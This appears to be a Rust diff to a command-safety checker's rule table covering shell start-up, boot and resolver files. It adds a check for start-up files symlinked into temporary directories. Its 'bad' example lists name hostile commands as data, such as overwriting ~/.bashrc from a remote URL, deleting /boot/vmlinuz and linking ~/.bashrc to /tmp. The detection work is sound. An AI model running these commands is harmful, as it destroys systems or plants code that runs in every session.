@@ -28,12 +28,13 @@ pub(super) const RULES: &[Rule] = &[
                       written runs in every session. Append the line that is needed (>>), and keep a copy.",
         remediation: "Append the one line that is needed with >>, after keeping a copy.",
         good: &["echo 'export A=b' >> ~/.bashrc", "cat ~/.bashrc", "cp ~/.bashrc ~/.bashrc.bak", "source ~/.bashrc"],
-        bad: &["echo x > ~/.bashrc", "cp x ~/.zshrc", "rm ~/.profile", "curl https://e.example/rc -o ~/.bashrc"],
+        bad: &["echo x > ~/.bashrc", "cp x ~/.zshrc", "rm ~/.profile", "ln -sf /tmp/x ~/.bashrc", "curl https://e.example/rc -o ~/.bashrc"],
         check: |f, r, o| {
             changes(f, r, o, &[Mark::ShellStartup], |e, _| match e.verb {
                 Verb::Append | Verb::Link | Verb::Update => None,
                 _ => Some(Severity::High),
-            })
+            });
+            linked_away(f, r, o);
         },
     },
     Rule {
@@ -230,8 +231,10 @@ pub(super) const RULES: &[Rule] = &[
         good: &["cat /etc/fstab", "cat /etc/hosts"],
         bad: &["echo x > /etc/fstab", "rm /boot/vmlinuz", "cp x /etc/hosts"],
         check: |f, r, o| {
-            changes(f, r, o, &[Mark::Boot, Mark::Resolver], |e, _| match e.verb {
+            changes(f, r, o, &[Mark::Boot, Mark::Resolver], |e, p| match e.verb {
                 Verb::Append | Verb::Update | Verb::Extract => None,
+                // What finds names is made anew by what manages the network.
+                Verb::Delete | Verb::Link if p.marks.has(Mark::Resolver) && !p.marks.has(Mark::Boot) => None,
                 _ => Some(Severity::Medium),
             })
         },
@@ -319,6 +322,22 @@ fn changes(
                 .title(format!("{}: {}", rule.title, p.text))
                 .evidence_as("path", describe(e), &p.text, e.place)
                 .detail("what", p.what.unwrap_or_default()),
+        );
+    }
+}
+
+/// A start-up file that becomes a link into a place that anybody may write: `ln -sf /tmp/x ~/.bashrc`.
+fn linked_away(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    for e in facts.with(&[Verb::Link]) {
+        let Some(p) = facts.path(e).filter(|p| p.marks.has(Mark::ShellStartup) && !facts.contained(e)) else {
+            continue;
+        };
+        let Some(to) = facts.other_path(e).filter(|to| to.class == Class::Temporary) else { continue };
+        out.add(
+            rule.about(facts, e)
+                .title(format!("{}: {}", rule.title, p.text))
+                .evidence_as("path", describe(e), &p.text, e.place)
+                .detail("to", &to.text),
         );
     }
 }
